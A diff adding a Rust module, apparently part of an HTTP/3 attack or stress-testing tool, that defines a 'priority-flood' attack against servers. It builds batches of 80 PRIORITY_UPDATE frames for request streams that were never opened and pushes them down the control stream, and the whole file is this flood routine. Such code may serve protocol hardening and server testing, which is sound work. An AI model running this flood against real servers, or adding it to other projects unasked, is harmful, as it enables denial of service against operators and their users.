@@ -1,0 +1,38 @@
+//! PRIORITY_UPDATE frames for requests that never come.
+
+use crate::attack::{Plan, Victim};
+use crate::http;
+
+use super::{Crowd, crowd};
+
+/// How the attack is listed.
+pub(super) const PLAN: Plan = Plan {
+    name: "priority-flood",
+    labels: &["A87"],
+    summary: "PRIORITY_UPDATE frames for streams that are not open",
+    victim: Victim::Server,
+    make: || Box::new(priority_flood()),
+};
+
+fn priority_flood() -> Crowd {
+    Crowd::new(2, |connection, progress, _| {
+        let id = http::uni_stream(http::CONTROL);
+        let mut bytes = Vec::new();
+        for _ in 0..FRAMES {
+            progress.streams += 1;
+            let mut payload = Vec::new();
+            crate::put_varint(&mut payload, 4 * (progress.streams % STREAMS));
+            payload.extend_from_slice(b"u=1,i");
+            bytes.extend(http::frame(http::PRIORITY_UPDATE, &payload));
+        }
+        connection.push_bytes(http::stream(id, progress.control, &bytes, false));
+        progress.control += bytes.len() as u64;
+    })
+    .with_begin(crowd::preface)
+}
+
+/// Frames in one packet.
+const FRAMES: usize = 80;
+
+/// Streams that they name: no more than the peer permits.
+const STREAMS: u64 = 100;
